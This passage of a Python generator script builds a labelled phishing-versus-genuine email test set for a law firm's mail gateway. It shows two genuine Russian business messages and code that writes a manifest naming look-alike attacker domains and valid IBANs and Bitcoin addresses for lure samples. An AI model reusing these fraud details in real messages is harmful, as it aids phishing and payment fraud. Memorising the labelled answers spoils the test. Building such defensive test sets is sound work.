     ("Subject", ew("Новое в законодательстве: арбитражный процесс, электронные доверенности, НДС", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@consultant.ru>" % (hnum(s, "m", n=12), h(s, "x", n=10))),
     ("List-Unsubscribe", "<https://www.consultant.ru/subscribe/unsubscribe/?id=%s>" % h(s, "u", n=20)),
     ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""КонсультантПлюс - Новое в законодательстве
Выпуск от 23.11.2026

Арбитражный процесс: Пленум ВС РФ разъяснил порядок подачи документов через систему "Мой арбитр" и учет электронных подписей представителей.

Машиночитаемые доверенности: с 1 марта 2027 года расширяется перечень случаев обязательного применения.

НДС: Минфин ответил на вопросы о ставках для юридических услуг иностранным лицам.

Подробнее: https://www.consultant.ru/law/review/?utm_source=mail&utm_campaign=%s

Отписаться от рассылки: https://www.consultant.ru/subscribe/unsubscribe/?id=%s
""" % (h(s, "c", n=8), h(s, "u", n=20)), cs="utf-8", cte="base64"),
        Text("""<html><body style="font-family:Arial;font-size:14px"><table width="600" align="center"><tr><td style="background:#c8102e;color:#fff;padding:14px;font-size:18px">КонсультантПлюс · Новое в законодательстве</td></tr>
<tr><td style="padding:16px"><p style="color:#777">Выпуск от 23.11.2026</p>
<p><b>Арбитражный процесс:</b> Пленум ВС РФ разъяснил порядок подачи документов через систему «Мой арбитр» и учет электронных подписей представителей.</p>
<p><b>Машиночитаемые доверенности:</b> с 1 марта 2027 года расширяется перечень случаев обязательного применения.</p>
<p><b>НДС:</b> Минфин ответил на вопросы о ставках для юридических услуг иностранным лицам.</p>
<p><a href="https://www.consultant.ru/law/review/?utm_source=mail&amp;utm_campaign=%s">Подробнее</a></p>
<p style="font-size:11px;color:#888"><a href="https://www.consultant.ru/subscribe/unsubscribe/?id=%s">Отписаться от рассылки</a></p></td></tr></table></body></html>
""" % (h(s, "c", n=8), h(s, "u", n=20)), "html", cs="utf-8", cte="base64")]))

# ---------------------------------------------------------------- B39
s = "39-ru-protivnaya-storona-mirovoe-srochno"
msg(B, s, "ru", "windows-1251 / base64 + PDF", "GENUINE urgent message from opposing counsel: draft settlement agreement to be agreed before the hearing",
    "Known opposing law firm on its own domain and mail server; urgency is procedural (hearing date); attachment is a draft document; no payment details or log-in request.",
    "andrei.volkov@example.com", "2026-12-04 17:36:25", "MSK",
    ("mx1.lebedev-partners.ru", "mx1.lebedev-partners.ru", "185.12.94.210"), "n.lebedeva@lebedev-partners.ru",
    [("From", addr("Лебедева Наталья", "n.lebedeva@lebedev-partners.ru", "windows-1251", "B")),
     ("To", addr("Волков Андрей", "andrei.volkov@example.com", "windows-1251", "B")),
     ("Subject", ew("СРОЧНО: проект мирового соглашения по делу А40-198442/2026 до заседания 07.12", "windows-1251", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "lebedev-partners.ru")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Андрей Викторович, добрый вечер!

Как договаривались по телефону, направляю проект мирового соглашения по делу № А40-198442/2026 с учетом правок нашего доверителя (пп. 3.2 и 5.1 - график погашения и порядок распределения судебных расходов).

Поскольку заседание назначено на понедельник, 7 декабря, просила бы прислать ваши комментарии или согласие до 12:00 воскресенья, чтобы мы успели подписать соглашение у руководителей и представить его в суд.

Я на связи в выходные по мобильному.

С уважением,
Наталья Лебедева
Партнер
Адвокатское бюро «Лебедев и партнеры»
""", cs="windows-1251", cte="base64"),
        Att(pdf(["Proekt mirovogo soglasheniya - delo A40-198442/2026", "Redakciya advokatskogo byuro Lebedev i partnery ot 04.12.2026",
                 "[PLACEHOLDER - business sample]"], "Mirovoe soglashenie"), "application/pdf", "Proekt_mirovogo_soglasheniya_v4.pdf")]))

# ---------------------------------------------------------------- B40
s = "40-ru-diadok-vkhodyashchiy-dokument"
msg(B, s, "ru", "UTF-8 / QP, HTML only", "GENUINE EDI service notification (Kontur.Diadoc): incoming signed UPD from a known supplier",
    "Real EDI operator notification from its own infrastructure; links only to diadoc.kontur.ru; the document is in the operator's system, not attached; the accounting team expects such notices.",
    "olga.smirnova@examplegroup.eu", "2026-12-02 10:17:44", "MSK",
    ("smtp-out2.kontur.ru", "smtp-out2.kontur.ru", "46.17.203.42"), "noreply@diadoc.ru",
    [("From", addr("Диадок", "noreply@diadoc.ru", "utf-8", "B")),
     ("To", "olga.smirnova@examplegroup.eu"),
     ("Subject", ew("Новый документ от ООО «Офис-Комплект»: УПД № 2114 от 01.12.2026", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s@diadoc.ru>" % h(s, "m", n=32)),
     ("Auto-Submitted", "auto-generated"), ("MIME-Version", "1.0")],
    Text("""<html><body style="font-family:Arial;font-size:14px;color:#222"><div style="max-width:560px">
<p style="color:#1a8cff;font-size:20px;font-weight:bold">Диадок</p>
<p>В ящик организации <b>ООО «Экзампл Груп Консалтинг»</b> поступил документ, требующий подписи:</p>
<p>Отправитель: ООО «Офис-Комплект», ИНН 7718462150<br>Документ: УПД № 2114 от 01.12.2026 на сумму 86 420,00 руб.</p>
<p><a href="https://diadoc.kontur.ru/%s/Document/Show?letterId=%s">Открыть документ в Диадоке</a></p>
<p style="font-size:11px;color:#888">Вы получили это письмо, так как подписаны на уведомления о новых документах. Настроить уведомления можно в Диадоке в разделе «Настройки».<br>АО «ПФ «СКБ Контур»</p></div></body></html>
""" % (h(s, "b", n=8) + "-" + h(s, "b2", n=4) + "-" + h(s, "b3", n=4) + "-" + h(s, "b4", n=4) + "-" + h(s, "b5", n=12),
       h(s, "l", n=8) + "-" + h(s, "l2", n=4) + "-" + h(s, "l3", n=4) + "-" + h(s, "l4", n=4) + "-" + h(s, "l5", n=12)), "html", cs="utf-8", cte="quoted-printable"))

# ================================================================ output
LANGNAME = {"de": "German", "en": "English", "it": "Italian", "pl": "Polish", "es": "Spanish", "el": "Greek", "ru": "Russian"}

def main():
    import email
    from email import policy
    for folder in ("attack", "business"):
        d = os.path.join(ROOT, folder)
        os.makedirs(d, exist_ok=True)
        for f in os.listdir(d):
            if f.endswith(".eml"):
                os.remove(os.path.join(d, f))
    names = set()
    for m in MESSAGES:
        assert m["fn"] not in names, m["fn"]
        names.add(m["fn"])
        raw = build_one(m)
        # sanity: parse back and decode every text part
        em = email.message_from_bytes(raw, policy=policy.default)
        for part in em.walk():
            if part.get_content_maintype() == "text":
                part.get_content()
        assert em["Subject"] is not None and em["Message-ID"]
        for bad in ("Authentication-Results", "DKIM-Signature", "X-Spam"):
            assert bad.lower() not in raw.decode("latin-1").lower().split("\r\n\r\n")[0], (m["fn"], bad)
        m["subject_dec"] = str(em["Subject"])
        m["from_dec"] = str(em["From"])
        with open(os.path.join(ROOT, m["folder"], m["fn"] + ".eml"), "wb") as fh:
            fh.write(raw)
    # staff.txt
    with open(os.path.join(ROOT, "staff.txt"), "w", encoding="utf-8") as fh:
        for n, a, o, r in STAFF:
            fh.write("%s=%s\n" % (n, a))
    # manifest
    esc = lambda t: str(t).replace("|", "\\|").replace("\n", " ")
    L = []
    L.append("# Example Group - mail-gateway blind evaluation set\n")
    L.append("Generated deterministically by `gen/build.py` (Python 3 standard library only, no network, no unseeded randomness). "
             "All messages are raw RFC 5322 files as received on the inbound MX `mx01.example.com` between 1 Nov and 5 Dec 2026. "
             "All attachments are inert placeholders (PDFs with placeholder text, ZIPs/HTML/SVG with commented-out or harmless scripts).\n")
    L.append("## The company\n")
    L.append("**Example Group** - international law firm (corporate/M&A, real estate, litigation), about 700 mailboxes, domains `example.com` and `examplegroup.eu`. "
             "HQ Frankfurt am Main (Germany); offices in Milan, Warsaw, Madrid, Athens, London and Moscow. Handles client money and escrow/Anderkonten, "
             "works with notaries, courts and e-filing systems (beA, CE-File, PCT, LexNET, e-Doręczenia, Мой арбитр), land registries, bar associations, "
             "expert witnesses, legal-research and e-signature services. Inbound MX: `mx01.example.com`; internal relay `mail-int01.example.com` (10.20.0.25).\n")
    L.append("## Staff\n")
    L.append("| Name | Address | Office | Role |\n|---|---|---|---|")
    for n, a, o, r in STAFF:
        L.append("| %s | %s | %s | %s |" % (esc(n), a, esc(o), esc(r)))
    L.append("\nRole/shared addresses and distribution lists also used: `buchhaltung@example.com`, `all-staff@example.com`, `athens-office@example.com`, `moscow-office@example.com`.\n")
    L.append("## Business correspondents\n")
    L.append("| Organisation | Contacts | Relationship |\n|---|---|---|")
    for o, c, r in CORRESPONDENTS:
        L.append("| %s | %s | %s |" % (esc(o), esc(c).replace("<", "&lt;").replace(">", "&gt;"), esc(r)))
    L.append("\nLook-alike / impersonated domains used in attacks (all attacker-controlled in the scenario): "
             "exarnple.com, lieferantgmbh.de, examplegroup-sso.com, examp1egroup.eu, ferreti-trasporti.it, partner-logistik.com.pl, "
             "harwood-lane.co.uk, notarialopezpineda.com, docusign-envelopes.net and others listed per message.\n")
    L.append("## Validity of embedded identifiers\n")
    L.append("- All IBANs carry valid ISO 13616 mod-97 check digits; national checks are also valid where implemented: Italian CIN, Spanish DC (both digits), "
             "Polish bank sort-code check digit (weights 3-9-7-1), Russian account control key against the BIK and Russian 10-digit INN check digit. "
             "(German bank-specific Kontonummer check methods and UK sort-code modulus checks were not modelled.)")
    L.append("- The Bitcoin address in the extortion sample is a valid bech32 (BIP-173) P2WPKH address: `%s`." % BTC)
    L.append("- QR codes are real, decodable QR codes (byte mode, ECC level M) produced by the encoder in build.py:")
    for m in MESSAGES:
        if m.get("qr"):
            L.append("  - `%s/%s.eml` -> `%s`" % (m["folder"], m["fn"], m["qr"]))
    L.append("- Phone numbers in UK callback lures use the Ofcom drama range (020 7946 0xxx).\n")
    for folder, title in (("attack", "Attack messages (must NOT be delivered plainly)"), ("business", "Business messages (MUST be delivered)")):
        L.append("## %s\n" % title)
        L.append("| File | Lang | Charset / encoding | From | Subject | What it is | Why attack / why genuine |\n|---|---|---|---|---|---|---|")
        for m in MESSAGES:
            if m["folder"] != folder:
                continue
            L.append("| %s.eml | %s | %s | %s | %s | %s | %s |" % (m["fn"], m["lang"], esc(m["cs"]),
                     esc(m["from_dec"]).replace("<", "&lt;").replace(">", "&gt;"), esc(m["subject_dec"]), esc(m["what"]), esc(m["why"])))
        L.append("")
    L.append("## Counts\n")
    for folder in ("attack", "business"):
        c = {}
        for m in MESSAGES:
            if m["folder"] == folder:
                c[m["lang"]] = c.get(m["lang"], 0) + 1
        L.append("- %s: %d messages - %s" % (folder, sum(c.values()), ", ".join("%s %d" % (k, c[k]) for k in LANGNAME if k in c)))
    with open(os.path.join(ROOT, "MANIFEST.md"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(L) + "\n")
    for folder in ("attack", "business"):
        c = {}
        for m in MESSAGES:
            if m["folder"] == folder:
                c[m["lang"]] = c.get(m["lang"], 0) + 1
        print(folder, sum(c.values()), c)

if __name__ == "__main__":
    main()
